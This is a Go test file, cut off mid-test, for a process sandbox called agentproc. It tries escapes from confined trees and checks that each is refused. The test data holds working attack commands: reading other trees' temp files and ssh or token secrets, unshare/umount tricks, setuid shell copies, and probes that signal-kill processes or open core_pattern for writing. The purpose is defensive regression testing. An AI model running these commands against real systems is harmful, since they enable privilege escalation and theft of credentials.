package agentproc_test

import (
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/agentproc/agentproc"
)

// TestAttackTempDirOfAnotherTree: a tree must not write into the private
// TMPDIR of another running tree of the same Manager. Each tree's cached
// ruleset, and as root its mount namespace, granted the temp dirs' shared
// parent, since both are built once per policy; a narrow tree could plant
// files a tree under a wider policy (another owner's, or one with
// NetworkHost) reads or runs, or fill the empty temp dirs kept for later
// trees. Each tree now reaches its own temp dir only (as root its own
// mount namespace, confine.PrivateTemp; without root a second Landlock
// layer, sandboxBuilt.treeRulesets). Runs as root and, through
// TestSandboxUnprivileged, not.
func TestAttackTempDirOfAnotherTree(t *testing.T) {
	requireSandbox(t)
	ws, m, b, bTmp := otherTreeInWorkspace(t)
	planted := filepath.Join(bTmp, "planted")
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws,
		Command: `echo planted-by-A > ` + shellQuote(planted) + `; echo mine > "$TMPDIR/own" && cat "$TMPDIR/own"`})
	if _, err := os.Lstat(planted); err == nil {
		t.Errorf("tree A made %s in tree B's temp dir, want it refused", planted)
	}
	if !strings.Contains(out.Text, "mine") {
		t.Errorf("tree A's own temp dir: output %q, want it writable", out.Text)
	}
	// Control, while B still runs (its temp dir goes when it ends): the
	// same write from an unconfined process goes through.
	if err := os.WriteFile(planted, []byte("control"), 0o600); err != nil {
		t.Errorf("control: the host cannot write %s: %v", planted, err)
	}
	endOtherTree(t, b)
	if got := b.Output().Text; strings.Contains(got, "planted-by-A") {
		t.Errorf("tree B read %q from its TMPDIR: tree A wrote it, want A refused", got)
	}
}

// TestAttackTempDirOfAnotherTreeRead: a tree read the files in another
// running tree's TMPDIR: the layer that kept it from writing there handled
// no read right. Runs as root and, through TestSandboxUnprivileged, not.
func TestAttackTempDirOfAnotherTreeRead(t *testing.T) {
	requireSandbox(t)
	ws, m, b, bTmp := otherTreeInWorkspace(t)
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `cat ` + shellQuote(filepath.Join(bTmp, "f"))})
	endOtherTree(t, b)
	if strings.Contains(out.Text, "SECRET-OF-B") {
		t.Errorf("tree A read tree B's temp file: output %q, want it refused", out.Text)
	}
}

// TestAttackTempDirOfAnotherTreeMetadata: as root, a tree changed the
// mode and times of the files in another running tree's TMPDIR: Landlock
// has no right for metadata, and the mount namespace, built once per
// policy, bound the temp dirs' whole parent writable. Each tree's own
// namespace now shows its own temp dir alone (confine.PrivateTemp). (The
// setuid bit the review set is refused by seccomp everywhere now, so the
// mode tried here is a plain one.) The control makes the same changes
// unconfined.
func TestAttackTempDirOfAnotherTreeMetadata(t *testing.T) {
	requireRootSandbox(t)
	ws, m, b, bTmp := otherTreeInWorkspace(t)
	f := filepath.Join(bTmp, "f")
	before, err := os.Stat(f)
	if err != nil {
		t.Fatal(err)
	}
	const stamp = 1000000000 // 2001-09-09
	change := `chmod 0606 ` + shellQuote(f) + `; touch -d @` + strconv.Itoa(stamp) + ` ` + shellQuote(f)
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: change})
	after, err := os.Stat(f)
	if err != nil {
		t.Fatal(err)
	}
	if after.Mode() != before.Mode() || after.ModTime().Unix() == stamp {
		t.Errorf("tree A changed tree B's %s: mode %v, mtime %v (output %q); want mode %v and mtime kept",
			f, after.Mode(), after.ModTime(), out.Text, before.Mode())
	}
	// Control, while B runs: an unconfined tree makes both changes.
	runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: change})
	if ctl, err := os.Stat(f); err != nil || ctl.Mode().Perm() != 0o606 || ctl.ModTime().Unix() != stamp {
		t.Errorf("control: an unconfined tree's change left %v (err %v), want mode 0606 and mtime %d", ctl, err, stamp)
	}
	endOtherTree(t, b)
}

// TestAttackTempDirOfAnotherTreeWays: the ways a tree that knows the path
// of another running tree's temp dir (from /proc/PID/cmdline, or
// mountinfo, say) could try to reach it besides opening it, each refused
// (as root: it is not in the tree's view; without root: the tree's second
// Landlock layer grants neither it nor the parent), and the control that
// shows each reaches it unconfined. Runs as root and, through
// TestSandboxUnprivileged, not. Without root the names stay listable:
// Landlock's right to list a directory reaches every directory below
// (the layer grants it on / for ls / to work), so the listing case is
// checked as root only (README, What does not hold).
func TestAttackTempDirOfAnotherTreeWays(t *testing.T) {
	requireSandbox(t)
	ws, m, b, bTmp := otherTreeInWorkspace(t)
	defer endOtherTree(t, b)
	f, name := shellQuote(filepath.Join(bTmp, "f")), filepath.Base(bTmp)
	pid := strconv.Itoa(b.Info().PID)
	cases := []struct {
		name, cmd, leak string
		rootOnly        bool
	}{
		{"list the temp parent", `ls -a "$TMPDIR/.."`, name, true},
		{"read through a link in the own temp dir", `ln -s ` + f + ` "$TMPDIR/l"; cat "$TMPDIR/l"`, "SECRET-OF-B", false},
		{"hard link into the own temp dir", `ln ` + f + ` "$TMPDIR/h"; cat "$TMPDIR/h"`, "SECRET-OF-B", false},
		{"move the file into the own temp dir", `mv ` + f + ` "$TMPDIR/m"; cat "$TMPDIR/m"`, "SECRET-OF-B", false},
		{"through the other tree's working directory", `cat /proc/` + pid + `/cwd/f`, "SECRET-OF-B", false},
		{"through the other tree's root", `cat /proc/` + pid + `/root` + shellQuote(filepath.Join(bTmp, "f")), "SECRET-OF-B", false},
		{"rename the own temp dir, link the other's in its place", `d="$TMPDIR"; mv "$d" "$d.x" && ln -s ` + shellQuote(bTmp) + ` "$d"; cat "$d/f"`, "SECRET-OF-B", false},
		{"unmount the cover in a user namespace", `unshare -Urm sh -c 'umount -l "$TMPDIR/.." || umount "$TMPDIR/.."; cat ` + f + `'`, "SECRET-OF-B", false},
		// Without a uid map: the tree keeps uid 0's files out of reach,
		// but holds every capability in the namespace it made; the cover,
		// copied from a more privileged namespace, is locked to it.
		{"unmount the cover in a user namespace without a map", `unshare -Um sh -c 'umount "$TMPDIR/.." && ls -a "$TMPDIR/.."'`, name, true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.rootOnly && os.Geteuid() != 0 {
				t.Skip("as root only: see the test's comment")
			}
			out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: c.cmd})
			t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
			if strings.Contains(out.Text, c.leak) {
				t.Errorf("output %q holds %q: want the other tree's temp dir out of reach", out.Text, c.leak)
			}
			if _, err := os.Stat(filepath.Join(bTmp, "f")); err != nil {
				t.Errorf("tree B's file: %v, want it left where it was", err)
			}
		})
	}
	// Controls, unconfined, while B runs: listing, and reading through a
	// link (the others' paths are those the sandbox refuses above).
	ctl := newManager(t)
	if out := runSandboxed(t, ctl, agentproc.Request{WorkDir: ws, Command: `ls -a ` + shellQuote(filepath.Dir(bTmp))}); !strings.Contains(out.Text, name) {
		t.Errorf("control: an unconfined ls of the parent gave %q, want %s in it", out.Text, name)
	}
	if out := runSandboxed(t, ctl, agentproc.Request{WorkDir: ws, Command: `ln -sf ` + f + ` l && cat l`}); !strings.Contains(out.Text, "SECRET-OF-B") {
		t.Errorf("control: an unconfined read through a link gave %q, want SECRET-OF-B", out.Text)
	}
}

// TestAttackTempDirFromNoDefaultWrite: a tree whose policy gives it no
// temp dir (NoDefaultWrite) read the temp dirs of the Manager's other
// trees: its policy did not name the temp parent, so the mount namespace
// (as root) showed it read-only and Landlock's read grant on / reached it.
// The parent is now hidden from such policies (and a detached tree's,
// whose temp dir is elsewhere). Runs as root and, through
// TestSandboxUnprivileged, not (where the names stay listable); the
// control reads it unconfined.
func TestAttackTempDirFromNoDefaultWrite(t *testing.T) {
	requireSandbox(t)
	ws, m, b, bTmp := otherTreeInWorkspace(t)
	defer endOtherTree(t, b)
	read := `cat ` + shellQuote(filepath.Join(bTmp, "f")) + ` 2>/dev/null; ls ` + shellQuote(filepath.Dir(bTmp)) + ` 2>/dev/null`
	narrow := agentproc.WorkspaceSandbox(ws)
	narrow.NoDefaultWrite = true
	narrow.Write = []string{ws}
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Sandbox: narrow, Command: read})
	// Without root the names stay listable (see
	// TestAttackTempDirOfAnotherTreeWays); the contents do not.
	if strings.Contains(out.Text, "SECRET-OF-B") || (os.Geteuid() == 0 && strings.Contains(out.Text, filepath.Base(bTmp))) {
		t.Errorf("a NoDefaultWrite tree read another tree's temp dir: output %q, want it hidden", out.Text)
	}
	if ctl := runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: read}); !strings.Contains(ctl.Text, "SECRET-OF-B") {
		t.Errorf("control: an unconfined tree read %q, want SECRET-OF-B", ctl.Text)
	}
}

// TestSandboxTempParentPlace: as root the temp parent is made in
// os.TempDir(); without root in /var/tmp where that is a sticky directory
// the user can write, since each tree's second Landlock layer takes a
// rule per entry of each directory above the parent and cannot read
// entries made there later (tempParentBase). Runs as root and, through
// TestSandboxUnprivileged, not.
func TestSandboxTempParentPlace(t *testing.T) {
	requireSandbox(t)
	ws := t.TempDir()
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `echo "$TMPDIR"`})
	want := filepath.Clean(os.TempDir())
	if os.Geteuid() != 0 {
		if st, err := os.Stat("/var/tmp"); err == nil && st.Mode()&os.ModeSticky != 0 && unix.Access("/var/tmp", unix.W_OK|unix.X_OK) == nil {
			want = "/var/tmp"
		}
	}
	// The parent lies in a directory shared by the user's Managers, which
	// a tree's own view covers whole (TestAttackTempDirOfAnotherManager).
	want = filepath.Join(want, "agentproc-sandbox-"+strconv.Itoa(os.Geteuid()))
	got := filepath.Dir(filepath.Dir(out.Sandbox.TempDir))
	if got != want || strings.TrimSpace(out.Text) != out.Sandbox.TempDir {
		t.Errorf("temp dir %q (TMPDIR %q): got its parent in %q, want in %q", out.Sandbox.TempDir, strings.TrimSpace(out.Text), got, want)
	}
}

// TestAttackTempDirOfAnotherManager: a tree read the temp dirs of the
// trees of another Manager of the same user (two agentproc mcp sessions,
// say): each Manager covered only its own temp parent. The parents now
// share one directory per user, which each tree's view (as root) or
// layer (without) covers but for its own temp dir. Runs as root and,
// through TestSandboxUnprivileged, not; the control reads it unconfined.
func TestAttackTempDirOfAnotherManager(t *testing.T) {
	requireSandbox(t)
	ws, _, b, bTmp := otherTreeInWorkspace(t)
	defer endOtherTree(t, b)
	read := `cat ` + shellQuote(filepath.Join(bTmp, "f")) + ` 2>/dev/null; ls -a ` + shellQuote(filepath.Dir(filepath.Dir(bTmp))) + ` 2>/dev/null | grep agentproc-sandbox-`
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: read})
	t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
	if strings.Contains(out.Text, "SECRET-OF-B") || (os.Geteuid() == 0 && strings.Contains(out.Text, filepath.Base(filepath.Dir(bTmp)))) {
		t.Errorf("a tree of one Manager reached the temp dir of another's: output %q, want it hidden", out.Text)
	}
	if ctl := runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: read}); !strings.Contains(ctl.Text, "SECRET-OF-B") {
		t.Errorf("control: an unconfined tree read %q, want SECRET-OF-B", ctl.Text)
	}
}

// TestAttackUnixSocketInAnotherTreesTemp: a tree connects to a Unix
// socket another running tree serves in its own TMPDIR (ssh-agent's
// default place, tmux with TMUX_TMPDIR, an editor's server, any program's
// control socket) and acts through it with that tree's policy: a
// NetworkNone tree drives a NetworkHost tree's tmux, or gets descriptors
// from it (SCM_RIGHTS). As root the tree's own mount namespace holds: the
// other tree's temp dir is not in its view. Without root it does not:
// Landlock (ABI 7) does not govern connect(2) on a pathname socket, nor
// the walk to it, and every tree is the same user, so the layer that
// refuses opening the other tree's files does not refuse this (third
// attack review). The control connects unconfined.
func TestAttackUnixSocketInAnotherTreesTemp(t *testing.T) {
	requireSandbox(t)
	if !isRoot() {
		t.Skip("open: without root Landlock (ABI 7) does not govern connect(2) to a pathname Unix socket, so a tree reaches a socket another tree serves in its temp dir")
	}
	ws, _, _ := sandboxWorkspace(t)
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	serve := attackProbe(t, ws, "unixserve", "")
	serve.Stdin = true
	b := mustStart(t, m, serve)
	defer func() {
		if err := b.CloseStdin(testContext(t)); err != nil {
			t.Fatal(err)
		}
		mustWait(t, b)
	}()
	if _, err := b.WaitMatch(testContext(t), regexp.MustCompile("^listening")); err != nil {
		t.Fatalf("tree B: %v (output %q)", err, b.Output().Text)
	}
	sock := filepath.Join(b.Info().Sandbox.TempDir, "s")
	out := runSandboxed(t, m, attackProbe(t, ws, "unixconnect", sock))
	t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
	if strings.Contains(out.Text, "FROM-B") {
		t.Errorf("tree A connected to %s in tree B's temp dir: output %q, want it out of reach", sock, out.Text)
	}
	c, err := net.DialTimeout("unix", sock, 10*time.Second)
	if err != nil {
		t.Fatalf("control: an unconfined connect to %s: %v", sock, err)
	}
	defer c.Close()
	_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
	if got, _ := io.ReadAll(c); !strings.Contains(string(got), "FROM-B") {
		t.Errorf("control: an unconfined connect to %s read %q, want FROM-B", sock, got)
	}
}

// TestAttackTempRootUnusable: the temp parents of all the user's Managers
// lie in one directory, agentproc-sandbox-UID, which each tree's layer
// hides whole; a Manager that finds it unusable (another local user made
// it first in /var/tmp, or a tree of this user made it 0755: Landlock has
// no right for chmod) makes its parent beside it, and its trees' layer
// hid that parent alone, so a tree of one such Manager read the temp
// dirs of another's. Now the layer hides the user's other parents there
// too (tempCovers). Without root only (TestSandboxUnprivileged): as root
// the tree's view is read-only there, so a tree cannot change the mode.
// The control reads the file unconfined.
func TestAttackTempRootUnusable(t *testing.T) {
	requireSandbox(t)
	if isRoot() {
		t.Skip("without root only: as root a tree cannot change the shared directory's mode (read-only view); runs through TestSandboxUnprivileged")
	}
	ws, _, _ := sandboxWorkspace(t)
	first := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	out := runSandboxed(t, first, agentproc.Request{WorkDir: ws, Command: `r=$(dirname "$(dirname "$TMPDIR")"); chmod 755 "$r" && echo "$r"`})
	root := strings.TrimSpace(out.Text)
	t.Cleanup(func() { _ = os.Chmod(root, 0o700) })
	if st, err := os.Stat(root); err != nil || st.Mode().Perm() != 0o755 {
		t.Fatalf("the tree's chmod of the shared directory %q: %v, mode %v (output %q), want it changed (Landlock has no right for it)", root, err, st, out.Text)
	}
	// Two Managers that start now both find it unusable.
	other := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	b, bTmp := otherTree(t, other, ws)
	defer func() {
		if err := b.CloseStdin(testContext(t)); err != nil {
			t.Fatal(err)
		}
		mustWait(t, b)
	}()
	if filepath.Dir(filepath.Dir(bTmp)) == root {
		t.Fatalf("tree B's temp dir %s is in the shared directory: want it beside it (the directory is unusable)", bTmp)
	}
	read := `cat ` + shellQuote(filepath.Join(bTmp, "f"))
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	out = runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: read})
	t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
	if strings.Contains(out.Text, "SECRET-OF-B") {
		t.Errorf("a tree of one Manager read the temp dir of another's beside an unusable shared directory: output %q, want it refused", out.Text)
	}
	if ctl := runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: read}); !strings.Contains(ctl.Text, "SECRET-OF-B") {
		t.Errorf("control: an unconfined tree read %q, want SECRET-OF-B", ctl.Text)
	}
}

// TestAttackSocketInHiddenDir: a hidden directory must hide the sockets in
// it too. ssh's ControlMaster socket (ControlPath ~/.ssh/cm-%r@%h:%p, a
// common setting) runs commands on the remote host over the user's
// authenticated connection, gpg-agent's S.gpg-agent in ~/.gnupg signs and
// decrypts. As root the hidden directory is covered in the tree's mount
// namespace and holds. Without root it does not: Landlock (ABI 7) governs
// neither the walk into a directory nor connect(2) on a pathname socket,
// so the socket in the hidden ~/.ssh is reached (third attack review). The
// control connects from an unconfined tree.
func TestAttackSocketInHiddenDir(t *testing.T) {
	requireSandbox(t)
	if !isRoot() {
		t.Skip("open: without root a hidden directory hides the files in it, not its pathname sockets (Landlock ABI 7 does not govern connect(2)): ssh's ControlMaster socket in ~/.ssh is reached")
	}
	ws, key, _ := sandboxWorkspace(t)
	sock := filepath.Join(filepath.Dir(key), "cm-test")
	l, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	serveEach(t, l, func(net.Conn) string { return "FROM-HOST\n" })
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	out := runSandboxed(t, m, attackProbe(t, ws, "unixconnect", sock))
	t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
	if strings.Contains(out.Text, "FROM-HOST") {
		t.Errorf("a sandboxed tree connected to %s in the hidden %s: output %q, want it out of reach", sock, filepath.Dir(sock), out.Text)
	}
	if ctl := runSandboxed(t, newManager(t), attackProbe(t, ws, "unixconnect", sock)); !strings.Contains(ctl.Text, "FROM-HOST") {
		t.Errorf("control: an unconfined tree's connect to %s gave %q, want FROM-HOST", sock, ctl.Text)
	}
}

// otherTree starts tree B under m: it goes to its $TMPDIR, writes
// SECRET-OF-B to f there, then prints $TMPDIR/planted, if any, once its
// stdin is closed. It returns B and its temp dir.
func otherTree(t *testing.T, m *agentproc.Manager, ws string) (*agentproc.Process, string) {
	t.Helper()
	b := mustStart(t, m, agentproc.Request{WorkDir: ws, Stdin: true,
		Command: `cd "$TMPDIR" && echo SECRET-OF-B > f && echo ready && read x; cat "$TMPDIR/planted" 2>/dev/null`})
	if _, err := b.WaitMatch(testContext(t), regexp.MustCompile("^ready")); err != nil {
		t.Fatal(err)
	}
	bTmp := b.Info().Sandbox.TempDir
	if _, err := os.Stat(filepath.Join(bTmp, "f")); err != nil {
		t.Fatalf("control: B's temp file: %v", err)
	}
	return b, bTmp
}

// otherTreeInWorkspace makes a sandbox workspace and a Manager that
// confines its trees to it, without redaction, and starts tree B under it
// (otherTree). It returns the workspace, the Manager, B and B's temp dir.
func otherTreeInWorkspace(t *testing.T) (string, *agentproc.Manager, *agentproc.Process, string) {
	t.Helper()
	ws, _, _ := sandboxWorkspace(t)
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	b, bTmp := otherTree(t, m, ws)
	return ws, m, b, bTmp
}

// endOtherTree closes tree B's stdin and waits for it to end.
func endOtherTree(t *testing.T, b *agentproc.Process) {
	t.Helper()
	if err := b.CloseStdin(testContext(t)); err != nil {
		t.Fatal(err)
	}
	mustWait(t, b)
}

// TestAttackSetuidInWorkspace: as root the shell is uid 0 without
// capabilities, and a file it creates is root's, so chmod 4755 on a copy
// of a shell in the workspace (or its TMPDIR) is an owner's chmod the
// kernel allows: the tree leaves a setuid-root program that any local user
// who can reach the workspace runs with euid 0. Metadata is refused only
// outside Write (TestSandboxMetadataOutsideWrite). The control shows the
// check sees the bit when an unconfined tree sets it.
func TestAttackSetuidInWorkspace(t *testing.T) {
	requireRootSandbox(t)
	ws := t.TempDir()
	setuid := func(m *agentproc.Manager, name string) os.FileMode {
		t.Helper()
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: `cp /bin/sh ` + name + ` && chmod 4755 ` + name})
		st, err := os.Stat(filepath.Join(ws, name))
		if err != nil {
			t.Fatalf("%s: %v (output %q)", name, err, out.Text)
		}
		return st.Mode()
	}
	if mode := setuid(newManager(t), "control"); mode&os.ModeSetuid == 0 {
		t.Fatalf("control: an unconfined tree's chmod 4755 gave mode %v, want setuid", mode)
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)))
	if mode := setuid(m, "confined"); mode&os.ModeSetuid != 0 {
		t.Errorf("a sandboxed tree made %s in its workspace, mode %v: want chmod 4755 refused", filepath.Join(ws, "confined"), mode)
	}
}

// TestAttackRootOwnedSecret: as root the shell keeps uid 0 (only its
// capabilities go), so every root-owned file of mode 0600 outside Hide is
// readable by its owner: the host's ssh keys (/etc/ssh/ssh_host_*_key),
// /etc/ssl/private, /etc/wireguard, /etc/krb5.keytab,
// /etc/kubernetes/admin.conf, /etc/rancher/k3s/k3s.yaml. The README allows
// reading world-readable files outside Hide; these are not. The control
// shows the file is not world-readable: the unprivileged test user cannot
// read it unconfined.
func TestAttackRootOwnedSecret(t *testing.T) {
	requireRootSandbox(t)
	t.Skip("escape found by attack review, not fixed: as root a tree reads any root-owned 0600 file outside Hide and WorkspaceSandbox's system list (it is their owner, uid 0); the fix is a tree that runs as a user owning nothing on the host (README, What does not hold)")
	ws, dir := t.TempDir(), t.TempDir() // dir is 0700, root's
	secret := filepath.Join(dir, "ssh_host_ed25519_key")
	if err := os.WriteFile(secret, []byte("HOST-PRIVATE-KEY\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if u, err := user.Lookup(sandboxUser); err == nil {
		if err := os.Chmod(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		out, _ := exec.Command("setpriv", "--reuid", u.Uid, "--regid", u.Gid, "--clear-groups", "cat", secret).CombinedOutput()
		if strings.Contains(string(out), "HOST-PRIVATE-KEY") {
			t.Fatalf("control: %s read %s unconfined; want it private to root", sandboxUser, secret)
		}
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: "cat " + shellQuote(secret)})
	if strings.Contains(out.Text, "HOST-PRIVATE-KEY") {
		t.Errorf("a sandboxed tree read root's private file %s: output %q, want it refused", secret, out.Text)
	}
}

// attackProbeEnv tells the "attackprobe" helper what to try: kind:argument.
const attackProbeEnv = "AGENTPROC_TEST_ATTACK"

func init() {
	agentproc.RegisterHelper("attackprobe", helperAttackProbe, false)
}

// helperAttackProbe tries one attack and prints "reached" (exit 0) when
// the kernel let it through, "denied: ERR" (exit 1) when it did not.
func helperAttackProbe() int {
	kind, arg, _ := strings.Cut(os.Getenv(attackProbeEnv), ":")
	var err error
	switch kind {
	case "sigio":
		// Make an unconfined process the owner of a pipe with O_ASYNC and
		// SIGKILL as its signal, then write: the kernel signals the owner.
		pid, _ := strconv.Atoi(arg)
		var p [2]int
		if err = unix.Pipe(p[:]); err == nil {
			if _, err = unix.FcntlInt(uintptr(p[0]), unix.F_SETOWN, pid); err == nil {
				if _, err = unix.FcntlInt(uintptr(p[0]), unix.F_SETSIG, int(unix.SIGKILL)); err == nil {
					if _, err = unix.FcntlInt(uintptr(p[0]), unix.F_SETFL, unix.O_ASYNC); err == nil {
						_, err = unix.Write(p[1], []byte("x"))
					}
				}
			}
		}
	case "shmread":
		// Attach another process's System V shared memory segment by id.
		id, _ := strconv.Atoi(arg)
		var mem []byte
		if mem, err = unix.SysvShmAttach(id, 0, unix.SHM_RDONLY); err == nil {
			fmt.Printf("%s\n", bytes.TrimRight(mem[:64], "\x00"))
			_ = unix.SysvShmDetach(mem)
		}
	case "mqopen":
		// Open another process's POSIX message queue by name.
		var name *byte
		if name, err = unix.BytePtrFromString(arg); err == nil {
			fd, _, errno := unix.Syscall6(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(name)), uintptr(unix.O_RDWR), 0, 0, 0, 0)
			if errno != 0 {
				err = errno
			} else {
				_ = unix.Close(int(fd))
			}
		}
	case "unixserve":
		// Serve FROM-B on a socket in the own temp dir until stdin ends.
		var l net.Listener
		if l, err = net.Listen("unix", filepath.Join(os.Getenv("TMPDIR"), "s")); err == nil {
			fmt.Println("listening")
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					_, _ = c.Write([]byte("FROM-B\n"))
					_ = c.Close()
				}
			}()
			_, _ = io.Copy(io.Discard, os.Stdin)
			_ = l.Close()
		}
	case "unixconnect":
		// Connect to a Unix socket by path and print what it says.
		var c net.Conn
		if c, err = net.DialTimeout("unix", arg, 10*time.Second); err == nil {
			_ = c.SetReadDeadline(time.Now().Add(10 * time.Second))
			var got []byte
			got, err = io.ReadAll(c)
			fmt.Printf("%s", got)
			_ = c.Close()
		}
	case "racerename":
		// Wait, with inotify, for arg to be renamed into place n times (or
		// made) and read it, and the file renamed onto it, at once: the
		// live repair's cover comes after the host's rename.
		dir, name := filepath.Dir(arg), filepath.Base(arg)
		var ino int
		if ino, err = unix.InotifyInit1(unix.IN_CLOEXEC); err != nil {
			break
		}
		if _, err = unix.InotifyAddWatch(ino, dir, unix.IN_MOVED_TO|unix.IN_CREATE|unix.IN_CLOSE_WRITE); err != nil {
			break
		}
		fmt.Println("watching")
		buf := make([]byte, 64<<10)
		for renames := 0; renames < raceRenames; {
			n, rerr := unix.Read(ino, buf)
			if rerr != nil {
				err = rerr
				break
			}
			for off := 0; off+unix.SizeofInotifyEvent <= n; {
				ev := (*unix.InotifyEvent)(unsafe.Pointer(&buf[off]))
				got := string(bytes.TrimRight(buf[off+unix.SizeofInotifyEvent:off+unix.SizeofInotifyEvent+int(ev.Len)], "\x00"))
				off += unix.SizeofInotifyEvent + int(ev.Len)
				if got != name && got != name+".lock" {
					continue
				}
				if b, rerr := os.ReadFile(filepath.Join(dir, got)); rerr == nil {
					fmt.Printf("read %s: %s\n", got, b)
				}
				if got == name && ev.Mask&unix.IN_MOVED_TO != 0 {
					renames++
				}
			}
		}
		_ = unix.Close(ino)
	case "openwrite":
		var fd int
		if fd, err = unix.Open(arg, unix.O_WRONLY, 0); err == nil {
			_ = unix.Close(fd)
		}
	}
	if err != nil {
		fmt.Println("denied:", err)
		return 1
	}
	fmt.Println("reached")
	return 0
}

// raceRenames is how many renames the "racerename" probe waits for.
const raceRenames = 5

func attackProbe(t *testing.T, dir, kind, arg string) agentproc.Request {
	req := helperRequest(t, "attackprobe")
	req.Env[attackProbeEnv] = kind + ":" + arg
	req.WorkDir = dir
	return req
}

// TestAttackHeld keeps, as passing tests, attacks of the review that did
// not get out but guard a plausible regression; it runs as root and again
// as the unprivileged user (TestSandboxUnprivileged).
func TestAttackHeld(t *testing.T) {
	requireSandbox(t)
	ws, key, _ := sandboxWorkspace(t)
	victim := exec.Command("sleep", "600")
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = victim.Process.Kill()
		_ = victim.Wait()
	})
	vpid := strconv.Itoa(victim.Process.Pid)
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	shell := func(cmd string) agentproc.Request { return agentproc.Request{Command: cmd, WorkDir: ws} }
	cases := []struct {
		name string
		req  agentproc.Request
	}{
		{"hard link a hidden key into the workspace", shell("ln " + shellQuote(key) + " ./k && cat ./k")},
		{"SIGIO owner set to an unconfined process", attackProbe(t, ws, "sigio", vpid)},
		{"another process's root through /proc", shell("ls /proc/" + vpid + "/root/")},
		{"another process's descriptors through /proc", shell("ls -l /proc/" + vpid + "/fd/")},
		{"open core_pattern for writing", attackProbe(t, ws, "openwrite", "/proc/sys/kernel/core_pattern")},
		{"open sysrq-trigger for writing", attackProbe(t, ws, "openwrite", "/proc/sysrq-trigger")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := runSandboxed(t, m, c.req)
			t.Logf("exit %d: %q", exitCode(out.Info), out.Text)
			if strings.HasPrefix(c.name, "SIGIO") {
				return // the calls pass; Landlock drops the signal (checked below)
			}
			if exitCode(out.Info) == 0 || strings.Contains(out.Text, "reached") || strings.Contains(out.Text, "PRIVATE-KEY-MATERIAL") {
				t.Errorf("exit %d, output %q: want it refused", exitCode(out.Info), out.Text)
			}
		})
	}
	stat, err := os.ReadFile("/proc/" + vpid + "/stat")
	if err != nil {
		t.Fatal(err)
	}
	if _, rest, _ := strings.Cut(string(stat), ") "); strings.HasPrefix(rest, "Z") {
		t.Errorf("the unconfined process %s was killed (state %q), want it untouched", vpid, rest[:1])
	}
}

// TestAttackServeTokenFile: the token of `agentproc serve --listen` is a
// credential (whoever holds it runs commands unconfined as the user).
// serve's help used to suggest ~/.agentproc-token, which WorkspaceSandbox
// did not hide; it now suggests ~/.config/agentproc/token, and both are
// hidden. Runs as root and, through TestSandboxUnprivileged, not.
func TestAttackServeTokenFile(t *testing.T) {
	requireSandbox(t)
	ws, _, _ := sandboxWorkspace(t)
	home := os.Getenv("HOME")
	paths := []string{filepath.Join(home, ".agentproc-token"), filepath.Join(home, ".config", "agentproc", "token")}
	for _, p := range paths {
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("SERVE-TOKEN-"+filepath.Base(p)+"\n"), 0o600); err != nil {
			t.Fatal(err)
		}
		// Control: an unconfined tree reads it.
		out := runSandboxed(t, newManager(t), agentproc.Request{WorkDir: ws, Command: "cat " + shellQuote(p)})
		if !strings.Contains(out.Text, "SERVE-TOKEN-") {
			t.Fatalf("control: an unconfined tree read %q from %s, want the token", out.Text, p)
		}
	}
	m := newManager(t, agentproc.WithSandbox(agentproc.WorkspaceSandbox(ws)), agentproc.WithRedaction(false))
	for _, p := range paths {
		out := runSandboxed(t, m, agentproc.Request{WorkDir: ws, Command: "cat " + shellQuote(p)})
		if strings.Contains(out.Text, "SERVE-TOKEN-") {
